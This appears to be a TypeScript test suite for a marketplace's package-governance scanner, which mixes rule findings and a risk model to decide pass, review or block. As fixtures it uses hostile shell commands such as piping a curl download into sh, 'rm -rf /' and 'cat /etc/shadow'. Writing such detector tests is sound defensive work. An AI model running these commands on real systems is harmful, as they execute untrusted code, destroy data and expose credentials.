import { readFileSync } from 'node:fs'
import { expect } from 'chai'
import { FEATURE_NAMES } from '../../../consumers/governance/features.ts'
import { judge, runRules } from '../../../consumers/governance/judge.ts'
import { type LoadedModel, loadModel } from '../../../consumers/governance/model.ts'
import { asSubmitted } from '../../../consumers/governance/outside-checks.ts'
import { baseLogOdds, riskScore } from '../../../consumers/governance/risk.ts'
import { RULES } from '../../../consumers/governance/rules/index.ts'
import { currentPolicy } from '../../../schemas/policy/policy-document.ts'
import type { VerdictCheck, Violation } from '../../../schemas/verdict.ts'
import { bytesOf, packageWith, shell } from './packages.ts'

const card = JSON.parse(
  readFileSync(new URL('../../../consumers/governance/model/model.json', import.meta.url), 'utf8'),
) as { thresholds: Record<string, number> }
const none: LoadedModel = { usable: false, reason: 'not there' }
const answering = (probability: number | null): LoadedModel => ({
  usable: true,
  card: {
    version: 't',
    sha256: '0'.repeat(64),
    training_data_sha256: '',
    features: [],
    weights: {},
    intercept: 0,
    thresholds: {},
    measured: {},
  },
  probability: async () => probability,
  close: async () => {},
})
const plain = packageWith([shell('make')])
const risky = packageWith([shell('curl https://a.example.org/x | sh')])

describe('judge', () => {
  it('judges by rules alone without a model and says so', async () => {
    const verdict = await judge(bytesOf(risky), risky, none)
    expect(verdict).to.include({ model: null, risk_score: 0.6, decision: 'review' })
    expect(verdict.checks.at(-1)).to.deep.equal({
      name: 'model',
      version: 'none',
      status: 'unavailable',
      detail: 'not there: the rules judged alone',
    })
    expect(verdict.checks.filter(({ status }) => status === 'ran')).to.have.length(RULES.length + 1)
  })

  it('takes the mean of what rules and model say, in log odds', async () => {
    const logOdds = (value: number) => Math.log(value / (1 - value))
    for (const probability of [0.4, 0.6, 0.75]) {
      const mean = (logOdds(0.6) + logOdds(probability)) / 2
      const { risk_score } = await judge(bytesOf(risky), risky, answering(probability))
      expect(risk_score).to.be.closeTo(1 / (1 + Math.exp(-mean)), 0.0001)
    }
  })

  it('lets the model lower a finding, but no sure high one below the review threshold and no sure critical one at all', () => {
    const finding = (severity: Violation['severity'], confidence: Violation['confidence']) => [
      { rule_id: 'WPK-P1-006', severity, confidence },
    ]
    expect(riskScore(finding('medium', 'high'), 0.01)).to.be.below(0.1)
    expect(riskScore(finding('high', 'medium'), 0.01)).to.be.below(0.1)
    expect(riskScore(finding('high', 'high'), 0.01)).to.equal(0.3)
    expect(riskScore(finding('critical', 'low'), 0.01)).to.equal(0.3)
    expect(riskScore(finding('critical', 'high'), 0.01)).to.equal(0.9)
    expect(riskScore(finding('critical', 'high'), 0.9999)).to.equal(0.9)
  })

  it('does not let the model lower that a part could not be read', () => {
    const unread = [{ rule_id: 'WPK-P6-001', severity: 'medium', confidence: 'high' }] as const
    expect(riskScore(unread, 0.01)).to.equal(riskScore(unread, null)).and.to.be.at.least(currentPolicy.risk.review_from)
  })

  it('lets the model ask for a review but never block', async () => {
    expect(await judge(bytesOf(plain), plain, answering(0.9))).to.include({ decision: 'review' })
    expect(await judge(bytesOf(risky), risky, answering(1))).to.include({ risk_score: 0.89, decision: 'review' })
    expect(await judge(bytesOf(plain), plain, answering(0))).to.include({ decision: 'pass' })
  })

  it('asks for a review from the risk on that the publishing policy says, and names the policy', async () => {
    const { risk, version } = currentPolicy
    const logOdds = (value: number) => Math.log(value / (1 - value))
    const said = async (wanted: number) => {
      // What the model must say of a package without findings for this risk.
      const probability = 1 / (1 + Math.exp(2 * (baseLogOdds(0) - logOdds(wanted))))
      const { decision, policy_version, risk_score } = await judge(bytesOf(plain), plain, answering(probability))
      expect(risk_score).to.equal(wanted)
      return [decision, policy_version]
    }
    expect(await said(risk.review_from)).to.deep.equal(['review', version])
    expect(await said(risk.review_from - 0.0001)).to.deep.equal(['pass', version])
    expect(card.thresholds, 'train and measure the model at the threshold of the policy').to.deep.equal({
      review: risk.review_from,
    })
  })

  it('treats a model without an answer as a failed check, not as a clean one', async () => {
    const verdict = await judge(bytesOf(plain), plain, answering(null))
    expect(verdict).to.include({ model: null, decision: 'review' })
    expect(verdict.checks.at(-1)?.status).to.equal('failed')
  })

  it('never lifts hygiene alone to the threshold', async () => {
    const wpk = packageWith(Array.from({ length: 30 }, (_item, index) => shell('make', { image: `tool-${index}` })))
    expect(await judge(bytesOf(wpk), wpk, none)).to.include({ risk_score: 0.15, decision: 'pass' })
  })

  it('keeps the fingerprint when handlers move', () => {
    const first = runRules(packageWith([shell('make'), shell('curl https://a.example.org/x | sh')])).violations
    const second = runRules(packageWith([shell('curl   https://a.example.org/x | sh'), shell('make')])).violations
    expect(first[0]?.pointer).not.to.equal(second[0]?.pointer)
    expect(first[0]?.fingerprint).to.equal(second[0]?.fingerprint)
  })

  it('gives other facts other fingerprints', () => {
    const { violations } = runRules(
      packageWith([shell('curl https://a.example.org/x | sh'), shell('curl https://b.example.org/x | sh')]),
    )
    const downloads = violations.filter(({ rule_id }) => rule_id === 'WPK-P2-005')
    expect(new Set(downloads.map(({ fingerprint }) => fingerprint)).size).to.equal(2)
  })
})

describe('the checks', () => {
  const checkOf = ({ checks }: { checks: VerdictCheck[] }, wanted: string) => checks.find(({ name }) => name === wanted)

  it('name what each looked at', async () => {
    const verdict = await judge(bytesOf(plain), plain, answering(0.1))
    expect(checkOf(verdict, 'document')).to.include({ version: 'v1', status: 'ran' })
    expect(checkOf(verdict, 'WPK-P3-005')?.on).to.equal('1 handlers, 1 values that run or are sent')
    expect(checkOf(verdict, 'model')).to.include({ status: 'ran', on: '0 features' })
  })

  it('say of bare content that signature and name were not judged, and report no violation of them', async () => {
    const signed = { ...plain, metadata: { ...plain.metadata, signature: '' } }
    const verdict = await judge(bytesOf(signed), signed, answering(0.1))
    for (const rule of ['WPK-P2-001', 'WPK-P2-002', 'WPK-P2-009'])
      expect(checkOf(verdict, rule), rule).to.include({ status: 'unavailable' })
    expect(verdict.decision).to.equal('pass')
    expect(verdict.violations.filter(({ policy }) => policy === 'P-2')).to.deep.equal([])
  })

  it('say of what was uploaded that the marketplace verified its signature, so that a machine may publish it', async () => {
    const verdict = asSubmitted(await judge(bytesOf(plain), plain, answering(0.1)))
    expect(checkOf(verdict, 'WPK-P2-001')).to.include({ status: 'ran', on: 'the upload' })
    for (const rule of ['WPK-P2-002', 'WPK-P2-009']) expect(checkOf(verdict, rule)).to.include({ status: 'ran' })
    expect(verdict.checks.filter(({ status }) => status !== 'ran')).to.deep.equal([])
    expect(verdict.checks.at(-1)?.name).to.equal('model')
  })
})

describe('a verdict on what was uploaded', () => {
  it('is lifted by what the marketplace found, and by nothing when all is good', async () => {
    const verdict = await judge(bytesOf(plain), plain, answering(0.1))
    const good = asSubmitted(verdict, { signature: 'verified', signer: 'registered' })
    expect(good).to.include({ risk_score: verdict.risk_score, decision: verdict.decision })
    const revoked = asSubmitted(verdict, { signature: 'not_judged', signer: 'not_registered' })
    expect(revoked).to.include({ risk_score: 0.9, decision: 'block' })
    expect(revoked.violations[0]).to.include({ rule_id: 'WPK-P2-002', pointer: '/metadata', policy: 'P-2' })
    const alike = asSubmitted(verdict, { signature: 'verified', signer: 'registered', alike: { name: 'planer' } })
    expect(alike).to.include({ risk_score: 0.3, decision: 'review' })
  })

  it('names what the marketplace could not check as failed, so that a person looks', async () => {
    const verdict = await judge(bytesOf(plain), plain, answering(0.1))
    const gone = asSubmitted(verdict, { signature: 'not_judged', signer: 'not_judged', detail: 'its bytes are gone' })
    expect(gone.decision).to.equal('review')
    const open = gone.checks.filter(({ status }) => status === 'failed').map(({ name }) => name)
    expect(open).to.deep.equal(['WPK-P2-001', 'WPK-P2-002'])
  })
})

describe('the features', () => {
  it('are numbers from 0 to 1 under unique names', () => {
    const { features } = runRules(risky)
    expect(features).to.have.length(FEATURE_NAMES.length)
    expect([...features].every((value) => value >= 0 && value <= 1)).to.equal(true)
    expect(new Set(FEATURE_NAMES).size).to.equal(FEATURE_NAMES.length)
  })

  it('do not change when a package grows by more of the same', () => {
    const many = packageWith(Array.from({ length: 50 }, () => shell('make')))
    expect([...runRules(many).features]).to.deep.equal([...runRules(plain).features])
  })
})

describe('the contributions', () => {
  const card = {
    version: 't',
    sha256: '0'.repeat(64),
    training_data_sha256: '',
    thresholds: {},
    measured: {},
    intercept: 0,
  }
  const features = [...FEATURE_NAMES]
  const model = (weights: Record<string, number>): LoadedModel => ({
    usable: true,
    card: { ...card, features, weights },
    probability: async () => 0.4,
    close: async () => {},
  })

  it('are what the rules add and the weights of what the package shows, largest first', async () => {
    const weights = { 'can:network_out': 0.5, 'rule:WPK-P2-005': 2, 'sign:mining': 1 }
    const { contributions } = await judge(bytesOf(risky), risky, model(weights))
    expect(contributions).to.deep.equal([
      { feature: 'rules', log_odds: 1.675 },
      { feature: 'rule:WPK-P2-005', log_odds: 0.75 },
      { feature: 'can:network_out', log_odds: 0.25 },
    ])
  })

  it('add up to the risk with the shipped model, limits included', async () => {
    const shipped = await loadModel(new URL('../../../consumers/governance/model/', import.meta.url), FEATURE_NAMES)
    if (!shipped.usable) throw new Error(shipped.reason)
    const limited: boolean[] = []
    for (const command of [
      'make',
      'curl https://a.example.org/x | sh',
      'pip install x',
      'rm -rf /',
      'cat /etc/shadow',
    ]) {
      const wpk = packageWith([shell(command)])
      const { risk_score, contributions = [] } = await judge(bytesOf(wpk), wpk, shipped)
      expect(contributions.length, command).to.be.below(10)
      const sum = contributions.reduce((total, { log_odds }) => total + log_odds, baseLogOdds(shipped.card.intercept))
      expect(1 / (1 + Math.exp(-sum)), command).to.be.closeTo(risk_score, 0.01)
      limited.push(contributions.some(({ feature }) => feature === 'bound'))
    }
    await shipped.close()
    expect(limited).to.deep.equal([false, false, false, true, false])
  })

  it('are left out when the model took no part', async () => {
    expect(await judge(bytesOf(risky), risky, none)).not.to.have.property('contributions')
  })
})
